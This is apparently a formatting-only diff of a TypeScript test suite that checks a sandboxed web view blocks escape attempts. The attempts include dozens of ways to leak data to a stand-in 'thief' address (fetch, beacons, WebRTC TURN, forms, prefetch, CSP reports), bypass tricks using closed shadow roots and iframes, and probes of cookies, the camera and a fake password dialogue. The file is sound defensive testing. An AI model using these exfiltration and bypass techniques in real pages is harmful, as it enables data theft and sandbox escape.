@@ -34,7 +34,10 @@ const attempts: readonly Attempt[] = [
   leak('fetch', `await fetch(thief + '/fetch');`),
   leak('fetch without an answer', `await fetch(thief + '/opaque', { mode: 'no-cors' });`),
   leak('fetch that outlives the page', `await fetch(thief + '/keepalive', { keepalive: true, method: 'POST', body: 'x' });`),
-  leak('XMLHttpRequest', `await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.open('GET', thief + '/xhr'); r.onload = resolve; r.onerror = () => reject(new Error('refused')); r.send(); });`),
+  leak(
+    'XMLHttpRequest',
+    `await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.open('GET', thief + '/xhr'); r.onload = resolve; r.onerror = () => reject(new Error('refused')); r.send(); });`,
+  ),
   leak('a beacon', `navigator.sendBeacon(thief + '/beacon', 'x'); await soon(100);`),
   leak('a WebSocket', `new WebSocket('ws://127.0.0.1:' + tap); await soon(100);`),
   leak('an event source', `new EventSource(thief + '/events'); await soon(100);`),
@@ -48,37 +51,94 @@ const attempts: readonly Attempt[] = [
   leak('an imported module', `await import(thief + '/module.js');`),
   leak('a video', element('video', `made.src = thief + '/video'; made.preload = 'auto'`)),
   leak('a sound', `new Audio(thief + '/audio').play(); await soon(100);`),
-  leak('subtitles', element('video', `const t = document.createElement('track'); t.src = thief + '/track'; t.default = true; made.append(t)`)),
+  leak(
+    'subtitles',
+    element('video', `const t = document.createElement('track'); t.src = thief + '/track'; t.default = true; made.append(t)`),
+  ),
   leak('an object', element('object', `made.data = thief + '/object'`)),
   leak('an embed', element('embed', `made.src = thief + '/embed'`)),
   leak('a frame', element('iframe', `made.src = thief + '/frame'`)),
   leak('a frame made of text', element('iframe', `made.srcdoc = '<img src="' + thief + '/srcdoc">'`)),
-  leak('a frame of its own text', element('iframe', `made.src = URL.createObjectURL(new Blob(['<img src="' + thief + '/blob">'], { type: 'text/html' }))`)),
-  leak('a connection made ahead', element('link', `made.rel = 'preconnect'; made.href = 'http://127.0.0.1:' + tap; document.head.append(made); await soon(200)`)),
-  leak('a call between browsers', `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + tap + '?transport=tcp', username: 'u', credential: 'p' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await soon(500);`),
-  leak('a call between browsers, by a frame of text', element('iframe', `made.srcdoc = '<script>' + call + '</' + 'script>'`).replace('const made', `const call = rtc(tap); const made`)),
-  leak('a call between browsers, by an empty frame', `const made = document.createElement('iframe'); document.body.append(made); const Other = made.contentWindow.RTCPeerConnection; new Function('RTCPeerConnection', rtc(tap))(Other); await soon(500);`),
-  leak('a call between browsers, in a closed tree', `const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); const made = document.createElement('iframe'); made.srcdoc = '<script>' + rtc(tap) + '</' + 'script>'; root.append(made); await soon(500);`),
-  leak('a call between browsers, in a tree of text', `const made = document.createElement('div'); document.body.append(made); const text = '<div><template shadowrootmode="closed"><iframe srcdoc="&lt;script&gt;' + rtc(tap).replaceAll('"', '&amp;quot;') + '&lt;/script&gt;"></iframe></template></div>'; (made.setHTMLUnsafe ?? (() => { throw new Error('gone'); })).call(made, text); await soon(500);`),
-  leak('a call between browsers, after the constructor was deleted', `delete window.RTCPeerConnection; window.RTCPeerConnection = Object.getPrototypeOf(window).RTCPeerConnection; new Function(rtc(tap))(); await soon(500);`),
+  leak(
+    'a frame of its own text',
+    element('iframe', `made.src = URL.createObjectURL(new Blob(['<img src="' + thief + '/blob">'], { type: 'text/html' }))`),
+  ),
+  leak(
+    'a connection made ahead',
+    element('link', `made.rel = 'preconnect'; made.href = 'http://127.0.0.1:' + tap; document.head.append(made); await soon(200)`),
+  ),
+  leak(
+    'a call between browsers',
+    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + tap + '?transport=tcp', username: 'u', credential: 'p' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await soon(500);`,
+  ),
+  leak(
+    'a call between browsers, by a frame of text',
+    element('iframe', `made.srcdoc = '<script>' + call + '</' + 'script>'`).replace('const made', `const call = rtc(tap); const made`),
+  ),
+  leak(
+    'a call between browsers, by an empty frame',
+    `const made = document.createElement('iframe'); document.body.append(made); const Other = made.contentWindow.RTCPeerConnection; new Function('RTCPeerConnection', rtc(tap))(Other); await soon(500);`,
+  ),
+  leak(
+    'a call between browsers, in a closed tree',
+    `const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); const made = document.createElement('iframe'); made.srcdoc = '<script>' + rtc(tap) + '</' + 'script>'; root.append(made); await soon(500);`,
+  ),
+  leak(
+    'a call between browsers, in a tree of text',
+    `const made = document.createElement('div'); document.body.append(made); const text = '<div><template shadowrootmode="closed"><iframe srcdoc="&lt;script&gt;' + rtc(tap).replaceAll('"', '&amp;quot;') + '&lt;/script&gt;"></iframe></template></div>'; (made.setHTMLUnsafe ?? (() => { throw new Error('gone'); })).call(made, text); await soon(500);`,
+  ),
+  leak(
+    'a call between browsers, after the constructor was deleted',
+    `delete window.RTCPeerConnection; window.RTCPeerConnection = Object.getPrototypeOf(window).RTCPeerConnection; new Function(rtc(tap))(); await soon(500);`,
+  ),
   leak('WebTransport', `await new WebTransport(thief.replace('http:', 'https:') + '/transport').ready;`),
   leak('a preload', element('link', `made.rel = 'preload'; made.as = 'image'; made.href = thief + '/preload'`)),
   leak('a prefetch', element('link', `made.rel = 'prefetch'; made.href = thief + '/prefetch'`)),
   leak('a module preload', element('link', `made.rel = 'modulepreload'; made.href = thief + '/modulepreload.js'`)),
-  leak('a prerender', element('script', `made.type = 'speculationrules'; made.textContent = JSON.stringify({ prerender: [{ urls: [thief + '/prerender'] }], prefetch: [{ urls: [thief + '/speculation'] }] })`)),
+  leak(
+    'a prerender',
+    element(
+      'script',
+      `made.type = 'speculationrules'; made.textContent = JSON.stringify({ prerender: [{ urls: [thief + '/prerender'] }], prefetch: [{ urls: [thief + '/speculation'] }] })`,
+    ),
+  ),
   leak('an icon', element('link', `made.rel = 'icon'; made.href = thief + '/icon.png'; document.head.append(made)`)),
   leak('a manifest', element('link', `made.rel = 'manifest'; made.href = thief + '/manifest.json'; document.head.append(made)`)),
-  leak('a form', element('form', `made.action = thief + '/form'; made.method = 'post'; made.requestSubmit ? setTimeout(() => made.submit()) : made.submit()`)),
-  leak('a form in another window', element('form', `made.action = thief + '/form-blank'; made.target = '_blank'; setTimeout(() => made.submit())`)),
+  leak(
+    'a form',
+    element(
+      'form',
+      `made.action = thief + '/form'; made.method = 'post'; made.requestSubmit ? setTimeout(() => made.submit()) : made.submit()`,
+    ),
+  ),
+  leak(
+    'a form in another window',
+    element('form', `made.action = thief + '/form-blank'; made.target = '_blank'; setTimeout(() => made.submit())`),
+  ),
   leak('its own address', `location.href = thief + '/location?x'; await soon(200);`),
   leak('a link that is clicked', element('a', `made.href = thief + '/link'; setTimeout(() => made.click())`)),
   leak('a ping of a link', element('a', `made.href = '#'; made.ping = thief + '/ping'; setTimeout(() => made.click())`)),
-  leak('a refresh', element('meta', `made.httpEquiv = 'refresh'; made.content = '0;url=' + thief + '/refresh'; document.head.append(made)`)),
+  leak(
+    'a refresh',
+    element('meta', `made.httpEquiv = 'refresh'; made.content = '0;url=' + thief + '/refresh'; document.head.append(made)`),
+  ),
   leak('a base', element('base', `made.href = thief + '/'; document.head.append(made); const i = new Image(); i.src = 'based.png'`)),
   leak('an SVG', element('div', `made.innerHTML = '<svg><image href="' + thief + '/svg"/><use href="' + thief + '/use#a"/></svg>'`)),
   leak('a worker', `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(thief + '/worker') + ')']))); await soon(150);`),
-  leak('reports of its own policy', element('meta', `made.httpEquiv = 'Content-Security-Policy'; made.content = "img-src 'none'; report-uri " + thief + '/report'; document.head.append(made); new Image().src = 'data:,'`)),
-  leak('a policy of its own that is looser', element('meta', `made.httpEquiv = 'Content-Security-Policy'; made.content = "default-src *; connect-src *"; document.head.append(made); await tried(() => fetch(thief + '/looser'))`)),
+  leak(
+    'reports of its own policy',
+    element(
+      'meta',
+      `made.httpEquiv = 'Content-Security-Policy'; made.content = "img-src 'none'; report-uri " + thief + '/report'; document.head.append(made); new Image().src = 'data:,'`,
+    ),
+  ),
+  leak(
+    'a policy of its own that is looser',
+    element(
+      'meta',
+      `made.httpEquiv = 'Content-Security-Policy'; made.content = "default-src *; connect-src *"; document.head.append(made); await tried(() => fetch(thief + '/looser'))`,
+    ),
+  ),
   leak('an origin that looks like a declared one', `await fetch(thief.replace('127.0.0.1', 'localhost') + '/other');`, {
     meta: { csp: { connectDomains: ['http://tiles.meadow.example'] } },
   }),
@@ -99,7 +159,10 @@ const attempts: readonly Attempt[] = [
   reach('the storage of its origin', `localStorage.setItem('a', 'b'); return localStorage.getItem('a');`),
   reach('the session storage', `return String(sessionStorage);`),
   reach('cookies', `document.cookie = 'a=b'; return document.cookie;`),
-  reach('a database', `return await new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = () => resolve('opened'); r.onerror = () => reject(r.error); });`),
+  reach(
+    'a database',
+    `return await new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = () => resolve('opened'); r.onerror = () => reject(r.error); });`,
+  ),
   reach('caches', `await caches.open('a'); return 'opened';`),
   reach('a service worker', `await navigator.serviceWorker.register('/sw.js'); return 'registered';`),
   reach('a shared worker', `new SharedWorker('/shared.js'); return 'started';`),
@@ -107,10 +170,16 @@ const attempts: readonly Attempt[] = [
   reach('the address of the top', `top.location.href = thief + '/top'; await soon(200); return 'navigated';`),
   reach('the address of the outer frame', `parent.location.href = thief + '/parent'; await soon(200); return 'navigated';`),
   reach('a new window', `return open(thief + '/popup') === null ? 'blocked: null' : 'opened';`),
-  reach('a dialogue', `const before = performance.now(); alert('Your password, please'); return performance.now() - before < 50 ? 'blocked: no dialogue' : 'shown';`),
+  reach(
+    'a dialogue',
+    `const before = performance.now(); alert('Your password, please'); return performance.now() - before < 50 ? 'blocked: no dialogue' : 'shown';`,
+  ),
   reach('the clipboard', `await navigator.clipboard.writeText('x'); return 'written';`),
   reach('the camera', `await navigator.mediaDevices.getUserMedia({ video: true }); return 'filmed';`),
-  reach('the place', `return await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('found'), (e) => reject(new Error(e.message))));`),
+  reach(
+    'the place',
+    `return await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('found'), (e) => reject(new Error(e.message))));`,
+  ),
   reach('the pointer', `await document.body.requestPointerLock(); return document.pointerLockElement ? 'locked' : 'blocked: none';`),
   reach('the whole screen', `await document.documentElement.requestFullscreen(); return 'full';`),
   {
@@ -130,7 +199,10 @@ const attempts: readonly Attempt[] = [
     name: 'calls a tool that its server does not have',
     script: `await hello(); done([(await ask('tools/call', { name: 'other_server_tool', arguments: {} })).error?.message, (await ask('tools/call', { name: '__proto__' })).error?.message, (await ask('tools/call', { name: 'book', arguments: [1] })).error?.message]);`,
     expected: ({ done, calls }) =>
-      expect([done, calls]).toEqual([['Unknown tool: other_server_tool', 'Unknown tool: __proto__', 'The arguments of a call are an object.'], []]),
+      expect([done, calls]).toEqual([
+        ['Unknown tool: other_server_tool', 'Unknown tool: __proto__', 'The arguments of a call are an object.'],
+        [],
+      ]),
   },
   {
     name: 'asks for methods that are none of a view’s',
